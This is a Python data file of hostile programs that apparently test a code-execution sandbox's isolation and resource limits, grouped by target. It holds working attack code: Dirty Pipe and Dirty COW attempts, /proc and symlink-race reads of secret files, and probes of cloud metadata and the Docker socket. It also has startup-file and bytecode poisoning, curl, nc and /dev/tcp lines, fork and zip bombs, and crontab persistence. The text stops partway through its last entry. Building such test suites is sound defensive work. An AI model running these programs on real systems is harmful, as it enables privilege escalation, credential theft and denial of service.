# ruff: noqa: E501 - programs are data
"""More hostile programs, which join those of `programs.py`: what a second attacker thought of."""

from __future__ import annotations

from programs import PROGRAMS, _group

__all__ = ["PROGRAMS"]

SPENT = ("TLE",)

# --- files and secrets ------------------------------------------------------------------------------------

add = _group("files and secrets")
add(
    "what the numbered entries of /proc lead to",
    """
for pid in ["self", "thread-self", *(p for p in os.listdir("/proc") if p.isdigit())]:
    for way in ("root", "cwd", "fd/0", "fd/1", "fd/2", "fd/3", "task/1/root", f"task/{pid}/cwd"):
        for path in (SECRET_FILE[1:], "../" * 12 + SECRET_FILE[1:], "host/file"):
            got = attempt(lambda: open(f"/proc/{pid}/{way}/{path}").read())
            if not failed(got): print(got)
""",
)
add(
    "descriptors opened again through /proc",
    """
for pid in ("self", "1", str(os.getppid())):
    for fd in range(0, 64):
        for flags in (os.O_RDONLY, os.O_RDWR):
            got = attempt(os.open, f"/proc/{pid}/fd/{fd}", flags | os.O_NONBLOCK)
            if not failed(got):
                print(attempt(os.readlink, f"/proc/{pid}/fd/{fd}"), attempt(os.pread, got, 4096, 0))
                attempt(os.pwrite, got, b"x" * 100, 1 << 20); os.close(got)
""",
)
add(
    "mapped files opened again through /proc",
    """
for pid in ("self", "1"):
    for name in attempt(os.listdir, f"/proc/{pid}/map_files") if not failed(attempt(os.listdir, f"/proc/{pid}/map_files")) else ():
        got = attempt(os.open, f"/proc/{pid}/map_files/{name}", os.O_RDWR)
        if not failed(got): harm("a mapped file opens for writing")
""",
)
add(
    "memory of the first process",
    """
for pid in (1, os.getppid()):
    if pid == os.getpid() or pid == 0: continue
    for name in ("mem", "maps", "environ", "auxv", "stack", "syscall", "fd", "io", "pagemap"):
        path = f"/proc/{pid}/{name}"
        got = attempt(lambda: os.listdir(path) if name == "fd" else open(path, "rb").read(64))
        if not failed(got) and got and name == "mem": harm("the first process's memory")
""",
)
add(
    "write one's own code into the parent",
    """
for pid in {1, os.getppid()} - {0, os.getpid()}:
    got = attempt(lambda: open(f"/proc/{pid}/mem", "r+b", 0))
    if not failed(got): harm("the parent's memory is open for writing")
    for name in ("clear_refs", "coredump_filter", "oom_score_adj", "comm", "timerslack_ns", "attr/current", "sched"):
        attempt(lambda: open(f"/proc/{pid}/{name}", "w").write("4"))
""",
)
add(
    "the mounts' names",
    """
for name in ("mountinfo", "mounts", "mountstats", "cgroup"):
    got = attempt(lambda: open("/proc/self/" + name).read())
    if not failed(got) and (SECRET_NAME in got or CWD != "/" and f" {CWD} " in got):
        harm(f"the host's folders are named in {name}")
""",
)
add(
    "secrets of the machine in /sys",
    """
for folder in ("/sys", "/sys/class/dmi/id", "/sys/class/net", "/sys/block", "/sys/fs/cgroup", "/sys/kernel", "/sys/module"):
    if not failed(attempt(os.listdir, folder)): harm("lists " + folder)
""",
    gap={},
)
add(
    "other people's files by every tool there is",
    """
import glob, subprocess
for command in (["/usr/bin/find", "/var", "/home", "/root", "/srv", "/mnt", "/media", "-name", "secret"],
                ["/bin/sh", "-c", f"exec 9<{SECRET_FILE}; cat <&9"], ["/usr/bin/perl", "-e", f"open F, '{SECRET_FILE}'; print <F>"],
                ["/bin/tar", "cf", "-", os.path.dirname(SECRET_FILE)], ["/bin/dd", f"if={SECRET_FILE}"],
                ["/usr/bin/openssl", "enc", "-base64", "-in", SECRET_FILE], ["/bin/bash", "-c", f"echo $(<{SECRET_FILE})"]):
    got = attempt(subprocess.run, command, capture_output=True, timeout=1)
    if not failed(got): print(got.stdout[-2000:])
""",
)
add(
    "the keys of services beside the box",
    """
for path in ("/run/secrets", "/var/run/secrets/kubernetes.io", "/var/run/docker.sock", "/run/containerd", "/run/dbus",
             "/run/user", "/run/postgresql", "/tmp/.X11-unix", "/tmp/.s.PGSQL.5432", "/etc/machine-id", "/etc/hostname",
             "/etc/resolv.conf", "/etc/ssl/private", "/etc/sudoers", "/var/lib/cloud", "/.dockerenv"):
    if os.path.lexists(path) and not failed(attempt(lambda: os.listdir(path) if os.path.isdir(path) else open(path).read())):
        harm("reads " + path)
""",
)
add(
    "places in the box that hold what is not the program's",
    """
for folder, folders, files in os.walk("/opt"):
    for name in files:
        if not failed(attempt(open, os.path.join(folder, name), "r+b")): harm("opens the box's own code for writing")
for name in ("gem", "gem.sandbox", "gem.graders", "gem.envs", "gem.envs.code"):
    got = attempt(__import__, name)
    if not failed(got): harm("imports " + name)
""",
)
add(
    "follow a link that changes while it is read",
    """
import threading
os.symlink("here", "link"); open("here", "w").write("x")
def swap():
    while True:
        attempt(os.unlink, "link"); attempt(os.symlink, SECRET_FILE, "link")
threading.Thread(target=swap, daemon=True).start()
until = time.monotonic() + 0.5
while time.monotonic() < until:
    got = attempt(lambda: open("link").read())
    if not failed(got) and got != "x": print(got)
os._exit(0)
""",
    fetch=("link",) * 10,
    status=("OK", "RE"),
)

# --- writes on the host -----------------------------------------------------------------------------------

add = _group("host writes")
add(
    "locks on files that others use",
    """
import fcntl
for path in (HOST_FILE, SECRET_FILE):
    for how in (os.O_RDONLY, os.O_RDWR, os.O_PATH if hasattr(os, "O_PATH") else 0):
        fd = attempt(os.open, path, how)
        if not failed(fd) and not failed(attempt(fcntl.flock, fd, fcntl.LOCK_EX | fcntl.LOCK_NB)): harm("a lock on a file of the host")
""",
)
add(
    "write back what is only read",
    """
import mmap
for path in (os.__file__, sys.executable, ctypes.__file__, "/etc/passwd", "/etc/hosts", "/usr/bin/env"):
    fd = attempt(os.open, path, os.O_RDONLY)
    if failed(fd): continue
    for call in (lambda: mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_WRITE | mmap.PROT_READ), lambda: os.ftruncate(fd, 0),
                 lambda: os.posix_fallocate(fd, 0, 4096), lambda: os.copy_file_range(0, fd, 10), lambda: os.open(f"/proc/self/fd/{fd}", os.O_RDWR)):
        if not failed(attempt(call)): harm("wrote into " + path)
""",
)
add(
    "dirty the cache behind a read-only file by splice",
    """
# CVE-2022-0847: a page of the file in a pipe, written to as if it were the pipe's
read, write = os.pipe()
for _ in range(16): os.write(write, b"x" * 4096)
for _ in range(16): os.read(read, 4096)
before = open("/etc/passwd", "rb").read()
fd = os.open("/etc/passwd", os.O_RDONLY)
attempt(os.splice, fd, write, 1, offset_src=0)
attempt(os.write, write, b"OWNED")
if open("/etc/passwd", "rb").read() != before: harm("a read-only file was changed")
""",
)
add(
    "race the copy on write",
    """
# CVE-2016-5195: write to a private page of a file while it is dropped
import mmap, threading
fd = os.open(HOST_FILE if os.access(HOST_FILE, os.R_OK) else "/etc/passwd", os.O_RDONLY)
m = mmap.mmap(fd, 0, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)
done = False
def drop():
    while not done: attempt(m.madvise, mmap.MADV_DONTNEED)
threading.Thread(target=drop, daemon=True).start()
with open("/proc/self/mem", "r+b", 0) as memory:
    at = ctypes.addressof(ctypes.c_char.from_buffer(m))
    for _ in range(2000): memory.seek(at); attempt(memory.write, b"OWNED")
done = True
""",
)
add(
    "push the host's disks",
    """
for path in ("/", "/usr", os.__file__):
    fd = attempt(os.open, path, os.O_RDONLY)
    if not failed(fd):
        for call in (306, 162): _libc.syscall(ctypes.c_long(call), fd)
        for nr in (0x40045877, 0xC0045878, 0xC0185879, 0x6601): _libc.ioctl(fd, ctypes.c_ulong(nr), ctypes.create_string_buffer(64))
        attempt(os.posix_fadvise, fd, 0, 0, os.POSIX_FADV_DONTNEED)
""",
)
add(
    "byte code beside the standard library",
    """
import py_compile, importlib.util
sys.dont_write_bytecode = False
for module in ("colorsys", "this", "antigravity", "sched"):
    source = os.path.join(os.path.dirname(os.__file__), module + ".py")
    open("evil.py", "w").write("poisoned = True")
    for target in (importlib.util.cache_from_source(source), source + "c"):
        if not failed(attempt(py_compile.compile, "evil.py", target, doraise=True)) and os.path.exists(target): harm("byte code planted")
import site
for folder in {*site.getsitepackages(), attempt(site.getusersitepackages), *sys.path}:
    if isinstance(folder, str) and folder and not folder.startswith(os.environ["HOME"]):
        for name in (TAG + ".pth", "sitecustomize.py", "usercustomize.py"):
            if not failed(attempt(lambda: open(os.path.join(folder, name), "x"))): harm("planted " + folder)
""",
    after="import colorsys\nif hasattr(colorsys, 'poisoned'): harm('poisoned byte code')",
)
add(
    "the user's site and start-up files",
    """
import site
for path in ("~/.local/lib/python3.11/site-packages", "~/.config", "~/.cache", "~"):
    folder = os.path.expanduser(path); attempt(os.makedirs, folder, exist_ok=True)
    for name in ("usercustomize.py", "sitecustomize.py", ".pythonrc.py", ".bashrc", ".profile", ".bash_profile", "evil.pth"):
        attempt(lambda: open(f"{folder}/{name}", "w").write("print('poisoned')\\n" if name.endswith("py") else "import sys; sys.poisoned = 1\\necho poisoned\\n"))
""",
    after="""
import subprocess
if hasattr(sys, "poisoned"): harm("start-up files of another call")
got = attempt(subprocess.run, [sys.executable, "-c", "pass"], capture_output=True)
if not failed(got) and b"poisoned" in got.stdout: harm("start-up files of another call")
""",
)

# --- network and communication ----------------------------------------------------------------------------

add = _group("network and communication")
add(
    "sockets by every family there is",
    """
for family in range(0, 50):
    for kind in (1, 2, 3, 4, 5, 10):
        fd = sc("socket", family, kind, 0)
        if fd >= 0: harm(f"a socket of family {family}, kind {kind}"); os.close(fd)
""",
)
add(
    "sockets by the old door",
    """
# i386's socketcall by int 0x80 would be counted by other numbers; x86-64 has none: all that is left is socketpair
for family in (1, 2, 10, 16, 17, 30, 40):
    for kind in (1, 2, 3, 5, 2 | 0o4000, 5 | 0o2000000):
        pair = (ctypes.c_int * 2)()
        if sc("socketpair", family, kind, 0, pair) >= 0 and (family, kind & 15) != (1, 1): harm(f"a pair of family {family}, kind {kind}")
""",
)
add(
    "a name server of the host",
    """
import socket
for name in ("example.org", "localhost", "metadata.google.internal"):
    got = attempt(socket.getaddrinfo, name, 80)
    if not failed(got) and name != "localhost": harm("a name was resolved: " + name)
""",
)
add(
    "metadata of the cloud",
    """
import urllib.request, http.client
for address in ("169.254.169.254", "100.100.100.200", "fd00:ec2::254", "[::1]", "127.0.0.1"):
    if not failed(attempt(lambda: urllib.request.urlopen(f"http://{address}/latest/meta-data", timeout=0.3))): harm("metadata answered")
""",
)
add(
    "tools that talk",
    """
import subprocess
for command in (["/usr/bin/curl", "-m", "1", f"http://127.0.0.1:{TCP}"], ["/usr/bin/wget", "-T", "1", "-t", "1", f"http://127.0.0.1:{TCP}"],
                ["/bin/bash", "-c", f"echo x > /dev/tcp/127.0.0.1/{TCP}"], ["/bin/bash", "-c", f"echo x > /dev/udp/127.0.0.1/{UDP}"],
                ["/usr/bin/perl", "-MIO::Socket", "-e", f"IO::Socket::INET->new('127.0.0.1:{TCP}')"], ["/bin/nc", "-w1", "127.0.0.1", str(TCP)]):
    attempt(subprocess.run, command, capture_output=True, timeout=1)
""",
)
add(
    "names between calls: semaphores, locks, queues",
    """
import multiprocessing
attempt(multiprocessing.Semaphore); attempt(multiprocessing.Queue); attempt(multiprocessing.Pipe)
_libc.sem_open.restype = ctypes.c_void_p
_libc.sem_open(b"/" + TAG.encode(), 0o100, 0o666, 1)
_libc.shm_open(b"/psm_" + TAG.encode(), 0o102, 0o666)
""",
    after="""
_libc.sem_open.restype = ctypes.c_void_p
if _libc.sem_open(b"/" + LAST_TAG.encode(), 0, 0, 0): harm("a semaphore of another call")
if _libc.shm_open(b"/psm_" + LAST_TAG.encode(), 0, 0) >= 0: harm("memory of another call")
""",
)
add(
    "numbers in flight between calls",
    """
_libc.semget(IPC_KEY, 4, 0o1666); _libc.msgget(IPC_KEY, 0o1666); _libc.shmget(IPC_KEY, 1 << 20, 0o1666)
for kind in ("shm", "sem", "msg"):
    got = attempt(lambda: open("/proc/sysvipc/" + kind).read().splitlines())
    if not failed(got) and len(got) > 1: harm("System V objects")
""",
)
add(
    "signals that carry data to the host",
    """
import signal
for pid in (CLIENT, BYSTANDER, 1):
    for number in (signal.SIGUSR1, signal.SIGIO, signal.SIGCONT, signal.SIGWINCH, 0):
        if not failed(attempt(os.kill, pid, number)) and pid != 1 and number: harm("a signal to the host")
if hasattr(os, "pidfd_open"):
    for pid in (CLIENT, BYSTANDER):
        fd = attempt(os.pidfd_open, pid)
        if not failed(fd): harm("a descriptor of the host's process")
""",
)

# --- processor, memory, disk, output ----------------------------------------------------------------------

add = _group("processor, memory, disk, output")
add(
    "sleep that cannot be interrupted by handlers",
    """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True: signal.sigwait({10, 12})
""",
    status=SPENT,
    heavy=True,
)
add(
    "a parent held up by vfork",
    """
tag()
pid = _libc.vfork() if False else sc("vfork")
if pid == 0:
    time.sleep(1000)
time.sleep(1000)
""",
    heavy=True,
)
add(
    "a stopped family",
    """
import signal
tag()
for _ in range(5):
    if os.fork() == 0:
        os.setsid(); os.kill(os.getpid(), signal.SIGSTOP); time.sleep(1000)
os.waitpid(-1, 0)
""",
    heavy=True,
)
add(
    "a clock that runs backwards for the program",
    """
import signal
time.time = time.monotonic = time.perf_counter = lambda: 0.0
signal.setitimer(signal.ITIMER_REAL, 0); signal.alarm(0)
while True: pass
""",
    status=SPENT,
    heavy=True,
)
add(
    "processor time in threads",
    """
import threading, hashlib
def burn():
    while True: hashlib.pbkdf2_hmac("sha256", b"x", b"y", 10 ** 6)
for _ in range(8): threading.Thread(target=burn, daemon=True).start()
burn()
""",
    status=SPENT,
    heavy=True,
)
add(
    "short-lived children that burn",
    """
tag()
while True:
    pid = attempt(os.fork)
    if pid == 0:
        until = time.monotonic() + 0.02
        while time.monotonic() < until: pass
        os._exit(0)
    if not failed(pid): os.waitpid(pid, 0)
    else: sum(range(10 ** 5))
""",
    status=SPENT,
    heavy=True,
)
add(
    "short-lived orphans that burn",
    """
import signal
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
tag()
while True:
    pid = attempt(os.fork)
    if pid == 0:
        for _ in range(4):
            if attempt(os.fork) == 0:
                os.setsid(); sum(range(10 ** 6)); os._exit(0)
        os._exit(0)
    time.sleep(0.002)
""",
    status=SPENT,
    heavy=True,
)
add(
    "all memory at once, without touching it by hand",
    """
import mmap
for _ in range(64): kept = _libc.mmap(0, ctypes.c_size_t(400 << 20), 3, 0x22 | 0x8000, -1, 0)
""",
    status=("RE", "MLE", "TLE", "OK"),
)
add(
    "memory that is shared and let go of",
    """
import mmap
tag()
kept = []
while True:
    m = attempt(mmap.mmap, -1, 64 << 20)
    if failed(m): break
    for i in range(0, 64 << 20, 4096): m[i] = 1
    kept.append(m)
time.sleep(1000)
""",
    status=("MLE", "TLE", "RE"),
    heavy=True,
)
add(
    "many small mappings",
    """
kept = 0
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
while kept < 200000:
    got = _libc.mmap(None, 4096, 1 + 2 * (kept % 2), 0x22, -1, 0)
    if got in (None, ctypes.c_void_p(-1).value): break
    kept += 1
""",
    heavy=True,
)
add(
    "memory in locks on ranges of a file",
    """
import fcntl
fd = os.open("f", os.O_RDWR | os.O_CREAT)
until = time.monotonic() + 1.5
n = 0
while time.monotonic() < until:
    if failed(attempt(fcntl.lockf, fd, fcntl.LOCK_EX, 1, 2 * n)): break
    n += 1
""",
    heavy=True,
)
add(
    "memory in extended attributes",
    """
n = 0
open("f", "w").close()
try:
    for n in range(100000): os.setxattr("f", f"user.x{n}", b"x" * 60000)
except OSError: pass
if n > 2000: harm(f"{n * 60 >> 10} MiB in attributes")
""",
)
add(
    "memory in file names and links",
    """
made = 0
try:
    for made in range(100000): os.symlink("x" * 4000, f"{'n' * 240}{made}")
except OSError: pass
if made > 20000: harm(f"{made} links of 4 KiB")
""",
    gap={"landlock": "no count of files", "bwrap-slots": "no count of files"},
)
add(
    "hard links without end",
    """
open("f", "w").close(); made = 0
try:
    for made in range(100000): os.link("f", f"l{made}")
except OSError: pass
if made > 20000: harm(f"{made} links")
""",
    gap={"landlock": "no count of files", "bwrap-slots": "no count of files"},
)
add(
    "memory in files that are shared",
    """
import mmap
tag()
for n in range(8):
    fd = attempt(os.open, f"/dev/shm/m{n}", os.O_RDWR | os.O_CREAT)
    if failed(fd): fd = os.open(f"m{n}", os.O_RDWR | os.O_CREAT)
    attempt(os.ftruncate, fd, 8 << 20)
    m = attempt(mmap.mmap, fd, 8 << 20)
    if not failed(m):
        for i in range(0, 8 << 20, 4096): m[i] = 1
""",
    status=("OK", "RE", "MLE"),
)
add(
    "a hole punched and filled",
    """
fd = os.open("f", os.O_RDWR | os.O_CREAT)
_libc.fallocate.argtypes = (ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long)
got = [_libc.fallocate(fd, 1, k << 23, 8 << 20) for k in range(64)]
if got.count(0) > 8: harm(f"{got.count(0) * 8} MiB allocated beyond the end")
""",
    gap={"landlock": "no total over files"},
)
add(
    "standard input as a disk",
    """
total = 0
for fd in (0, 1, 2):
    for call in (lambda: os.ftruncate(fd, 1 << 34), lambda: os.pwrite(fd, b"x" * (1 << 20), 1 << 33), lambda: os.posix_fallocate(fd, 0, 1 << 33)):
        if not failed(attempt(call)): harm(f"descriptor {fd} grows without end")
""",
)
add(
    "the limit of the size, caught",
    """
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
with open("f", "wb", 0) as file:
    total = 0
    for _ in range(100):
        got = attempt(file.write, bytes(1 << 20))
        if failed(got): break
        total += got
if total > 16 << 20: harm(f"{total >> 20} MiB in a file")
""",
)
add(
    "a bomb in a zip",
    """
import io, zipfile, zlib, bz2, lzma
data = zlib.compress(bytes(64 << 20), 9)
with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as z:
    for n in range(20): z.writestr(f"f{n}", bytes(8 << 20))
zipfile.ZipFile("bomb.zip").extractall("out")
""",
    fetch=("bomb.zip",),
    status=("RE", "MLE", "TLE", "OLE", "OK"),
)
add(
    "a bomb in a tar for the snapshot",
    """
import tarfile
for n in range(3000):
    try: os.symlink("loop", f"l{n}")
    except OSError: break
try: os.symlink(".", "loop"); os.symlink("/" * 4000, "slashes")
except OSError: pass
""",
    runs=False,
    fetch=("loop/loop/loop/f",),
)
add(
    "output without a line's end",
    "os.set_blocking(1, False)\nwhile True:\n    try: os.write(1, b'\\0' * 65536)\n    except BlockingIOError: time.sleep(0.001)",
    status=("OLE",),
)
add(
    "output through every door",
    """
tag()
for fd in (1, 2):
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            while True: attempt(os.write, fd, b"\\xff" * 65536)
time.sleep(1000)
""",
    heavy=True,
)
add(
    "output by a mapping, a splice, a send",
    """
fd = os.open("/dev/zero", os.O_RDONLY)
for _ in range(4000):
    if failed(attempt(os.splice, fd, 1, 1 << 16)): attempt(os.sendfile, 1, fd, 0, 1 << 16)
os.write(1, b"x" * (1 << 20)); os.write(1, b"x" * (1 << 20))
""",
    heavy=True,
)
add(
    "the output kept open, silent",
    """
tag()
if os.fork() == 0:
    os.setsid(); time.sleep(1000)
os._exit(0)
""",
)
add(
    "a traceback as long as the program",
    """
def f(n):
    x = "a" * 1000
    if n == 0: raise Exception("\\ud800" * 100_000)
    try: f(n - 1)
    except Exception as e: raise ExceptionGroup("g" * 1000, [e, ValueError(n)]) from e
f(60)
""",
    status=("RE", "OLE", "MLE"),
)
add(
    "an exception whose words burn",
    """
class Slow(Exception):
    def __str__(self):
        while True: pass
raise Slow
""",
    status=SPENT,
    heavy=True,
)
add(
    "an exception whose notes are endless",
    """
class Notes(list):
    def __iter__(self):
        while True: yield "x" * 1000
e = ValueError("x"); e.__notes__ = Notes(["x"])
raise e
""",
    status=("RE", "TLE", "OLE", "MLE"),
    heavy=True,
)
add(
    "a cause that is its own cause",
    """
a, b = ValueError(1), ValueError(2)
a.__cause__, b.__cause__ = b, a
a.__context__, b.__context__ = b, a
raise a
""",
    status=("RE",),
)
add(
    "a value whose size lies",
    """
class Long(str):
    def __len__(self): return 1 << 62
    def __getitem__(self, key): return self
    def __repr__(self): return self
    def encode(self, *a): raise SystemExit
Long("x" * 100)
""",
)
add(
    "a value of a hostile text",
    """
class Text(str):
    def __getitem__(self, key): os.kill(os.getpid(), 9); os._exit(0)
class Value:
    def __repr__(self): return Text("x")
Value()
""",
)
add(
    "pictures without end",
    """
import matplotlib.pyplot as plt
for _ in range(60):
    plt.figure(figsize=(1, 1)); plt.plot([1, 2])
""",
    heavy=True,
    status=("OK", "TLE", "RE", "MLE"),
)
add(
    "a picture of the size of a wall",
    """
import matplotlib.pyplot as plt
plt.figure(figsize=(600, 600), dpi=100); plt.plot([1, 2])
""",
    heavy=True,
    status=("OK", "TLE", "RE", "MLE"),
)
add(
    "a picture that is a program",
    """
import types
class P(types.ModuleType):
    def get_fignums(self): return range(10 ** 9)
    def __getattr__(self, name): return lambda *a, **k: self
    def savefig(self, buffer, **k): buffer.write(b"\\x89PNG\\r\\n" + b"x" * (3 << 20))
name = "matplot" + "lib.pyplot"  # whose own fork server is not wanted here
sys.modules[name] = P(name)
1
""",
    status=("OK", "RE", "TLE", "OLE", "MLE"),
)
add(
    "a large numpy array",
    """
import numpy
kept = [numpy.ones((1 << 26,)) for _ in range(40)]
""",
    status=("MLE", "RE", "TLE"),
    heavy=True,
)
add(
    "a symbolic task that never ends",
    """
import sympy
x = sympy.Symbol("x")
sympy.factorint(2 ** 541 - 1); sympy.integrate(sympy.sin(x ** x ** x) ** x, x)
""",
    status=("TLE", "MLE", "RE"),
    heavy=True,
)
add(
    "compile without end",
    """
compile("(" * 90 + ")" * 90 + "=" * 10, "x", "exec") if False else None
import ast
source = "x = " + "lambda: " * 3000 + "0"
attempt(lambda: [ast.parse("[" * 190 + "]" * 190) for _ in range(10 ** 7)])
""",
    status=SPENT,
    heavy=True,
)

# --- signals, other processes, daemons --------------------------------------------------------------------

add = _group("signals and daemons")
add(
    "die by every signal",
    """
import signal
tag()
for number in range(1, 65):
    pid = os.fork()
    if pid == 0:
        attempt(signal.signal, number, signal.SIG_DFL); attempt(os.kill, os.getpid(), number); os._exit(0)
    if number in (19, 20, 21, 22): os.kill(pid, 9)
    os.waitpid(pid, 0)
os.kill(os.getpid(), 9)
""",
)
add(
    "a chain of sessions",
    """
tag()
for _ in range(10):
    if os.fork(): os._exit(0) if _ else time.sleep(0.05)
    os.setsid()
time.sleep(1000)
""",
    heavy=True,
)
add(
    "children with every name",
    """
import subprocess
for name in ("bwrap", "python -m gem", "zygote) R 1 1", "x\\n) S 0 0 0", "((((", "a b c d e f"):
    if os.fork() == 0:
        _libc.prctl(15, name.encode()[:15], 0, 0, 0)
        os.setsid(); time.sleep(1000)
tag()
time.sleep(0.3)
""",
    status=("OK", "RE"),
    heavy=True,
)
add(
    "memory of a child with a strange name",
    """
tag()
if os.fork() == 0:
    _libc.prctl(15, b") S 1 1 1 0 0", 0, 0, 0)
    kept = [bytearray(b"x") * (100 << 20) for _ in range(4)]
    if os.fork() == 0:
        more = [bytearray(b"y") * (100 << 20) for _ in range(4)]; time.sleep(1000)
    time.sleep(1000)
time.sleep(1000)
""",
    status=("MLE", "TLE", "RE"),
    heavy=True,
)
add(
    "threads that begin new processes for ever",
    """
import subprocess, threading
tag()
def on():
    while True:
        attempt(subprocess.Popen, ["/bin/sleep", "1000", TAG], start_new_session=True)
for _ in range(3): threading.Thread(target=on).start()
""",
    heavy=True,
)
add(
    "a daemon whose parent waits in a stopped shell",
    """
import subprocess
attempt(subprocess.Popen, ["/bin/bash", "-c", f"(trap '' HUP TERM INT; exec -a {TAG} sleep 1000) & disown; kill -STOP $$"], start_new_session=True)
time.sleep(0.1)
""",
)
add(
    "a daemon by nohup, at, screen, systemd",
    """
import subprocess
for command in (["nohup", "sleep", "1000", TAG], ["setsid", "-f", "sleep", "1000", TAG], ["at", "now"], ["crontab", "-"],
                ["systemd-run", "--user", "sleep", "1000", TAG], ["screen", "-dm", "sleep", "1000", TAG]):
    attempt(subprocess.run, command, input=b"* * * * * touch /tmp/x\\n", capture_output=True, timeout=0.3)
""",
    heavy=True,
)
add(
    "a process that is executed anew for ever",
    """
script = "import os, sys, time; time.sleep(0.001); os.execv(sys.executable, sys.orig_argv)"
if attempt(os.fork) == 0:
    os.setsid(); os.execv(sys.executable, [sys.executable, "-S", "-c", script, TAG])
time.sleep(0.3)
""",
)
add(
    "a child that waits for the end of its parent",
    """
tag()
read, write = os.pipe()
if os.fork() == 0:
    os.close(write); os.setsid(); os.read(read, 1)
    while True: attempt(os.fork); time.sleep(0.01)
os._exit(3)
""",
    status=("RE",),
)
add(
    "timers that fire in the next cell",
    """
import signal
signal.signal(signal.SIGALRM, lambda *a: os._exit(9))
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
""",
    runs=False,
)
add(
    "a thread that ends the process in the next cell",
    """
import threading
threading.Timer(0.05, lambda: os.kill(os.getpid(), 11)).start()
threading.Timer(0.1, lambda: os._exit(0)).start()
""",
)
add(
    "a thread that interrupts the main one for ever",
    """
import threading, _thread
def on():
    while True: _thread.interrupt_main(); time.sleep(0.001)
threading.Thread(target=on, daemon=True).start()
""",
)
add(
    "a thread that raises into every other",
    """
import threading
main = threading.main_thread().ident
def on():
    while True:
        ctypes.pythonapi.PyThreadState_SetAsyncExc(ctypes.c_ulong(main), ctypes.py_object(SystemExit)); time.sleep(0.001)
threading.Thread(target=on, daemon=True).start()
""",
)

# --- kernel and privilege ---------------------------------------------------------------------------------

add = _group("kernel and privilege")
add(
    "every prctl",
    """
for option in range(1, 80):
    if option in (1, 22): continue  # die with the parent; a filter
    pid = os.fork()
    if pid == 0:
        for value in (0, 1, 2): _libc.prctl(option, value, 0, 0, 0)
        if open("/proc/self/status").read().count("NoNewPrivs:\\t1") != 1: harm("new privileges")
        os._exit(0)
    os.waitpid(pid, 0)
""",
)
add(
    "every system call with nothing in hand",
    """
tag()
skip = {0, 7, 13, 14, 15, 22, 23, 34, 35, 56, 57, 58, 59, 60, 61, 62, 128, 130, 186, 200, 202, 219, 230, 231, 232, 234, 247, 270, 271, 281, 293, 322, 424, 435, 441, 449, 454, 455}
for nr in range(0, 470):
    if nr in skip: continue
    pid = attempt(os.fork)
    if pid == 0:
        import signal; signal.alarm(1)
        os.closerange(0, 64)
        for arguments in ((0, 0, 0, 0, 0, 0), (-1, -1, -1, -1, -1, -1), (1, 1, 1, 1, 1, 1)):
            _libc.syscall(ctypes.c_long(nr), *(ctypes.c_long(a) for a in arguments))
        os._exit(0)
    if not failed(pid): os.waitpid(pid, 0)
""",
    heavy=True,
)
add(
    "a listener on one's own filter",
    """
import struct
notify = ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, 0x7FC00000))
_libc.syscall(ctypes.c_long(317), 1, 8, struct.pack("HxxxxxxP", 1, ctypes.addressof(notify)))
""",
    heavy=True,
)
add(
    "namespaces inside, by the shell's tools",
    """
import subprocess
for command in (["unshare", "-Ur", "id", "-u"], ["unshare", "-U", "true"], ["nsenter", "-t", "1", "-a", "id", "-u"], ["chroot", "/", "id", "-u"],
                ["bwrap", "--ro-bind", "/", "/", "id", "-u"], ["mount", "-t", "tmpfs", "x", "/tmp"], ["setpriv", "--reuid", "0", "id", "-u"]):
    got = attempt(subprocess.run, command, capture_output=True, timeout=2)
    if not failed(got) and got.returncode == 0 and command[0] != "nsenter": harm(" ".join(command))
""",
)
add(
    "clone with every flag",
    """
import struct
for bit in range(7, 32):
    got = sc("clone", (1 << bit) | 17, 0, 0, 0, 0) if (1 << bit) & 0x7E020000 else -1
    if got == 0: os._exit(0)
    if got > 0: harm(f"clone with {1 << bit:#x}")
works("clone", 0x10000000 | (1 << 40), 0, 0, 0, 0)
""",
)
add(
    "files with powers",
    """
for name, value in (("security.capability", bytes.fromhex("0000000200000000ffffffff00000000ffffffff")), ("trusted.overlay.opaque", b"y"), ("system.posix_acl_access", b"x")):
    open("c", "w").close()
    if not failed(attempt(os.setxattr, "c", name, value)) and name != "system.posix_acl_access": harm("set " + name)
""",
)
add(
    "times of the machine",
    """
for clock in range(0, 12):
    if not failed(attempt(time.clock_settime, clock, 0)): harm(f"clock {clock} was set")
buffer = ctypes.create_string_buffer(208)
buffer[0] = 1
for call in ("adjtimex", "clock_adjtime"):
    works(call, *([0] if call == "clock_adjtime" else []), buffer)
for path in ("/proc/self/timens_offsets", "/dev/rtc", "/dev/rtc0", "/dev/hpet", "/dev/ptp0"):
    if not failed(attempt(os.open, path, os.O_RDWR)): harm("opened " + path)
""",
)
add(
    "tables of the processor",
    """
for call, args in ((158, (0x1012, 0)), (158, (0x3001, 1)), (172, (3,)), (173, (0, 1, 1)), (154, (0x11, ctypes.create_string_buffer(16), 16))):
    attempt(lambda: _libc.syscall(ctypes.c_long(call), *args) if os.uname().machine == "x86_64" else 0)
print("alive")
""",
    status=("OK", "RE"),
)
add(
    "the kernel's own words",
    """
for path in ("/dev/kmsg", "/proc/kmsg", "/proc/keys", "/proc/key-users", "/proc/sysrq-trigger", "/proc/timer_list", "/proc/sched_debug",
             "/proc/iomem", "/proc/ioports", "/proc/mtrr", "/proc/bus/pci/devices", "/proc/driver", "/proc/acpi", "/proc/scsi/scsi", "/proc/fs"):
    fd = attempt(os.open, path, os.O_WRONLY)
    if not failed(fd): harm("opened for writing " + path)
""",
)
add(
    "a terminal of one's own",
    """
import pty
got = attempt(pty.openpty)
held = []
while not failed(attempt(lambda: held.append(os.open("/dev/ptmx", os.O_RDWR)))) and len(held) < 5000: pass
if len(held) > 1000: harm("any number of terminals")
""",
)
add(
    "a better share of the processor",
    """
import subprocess
attempt(os.sched_setaffinity, 0, range(1024)); attempt(os.nice, -20)
for group in (0, 1): attempt(os.setpriority, group, 0, -20)
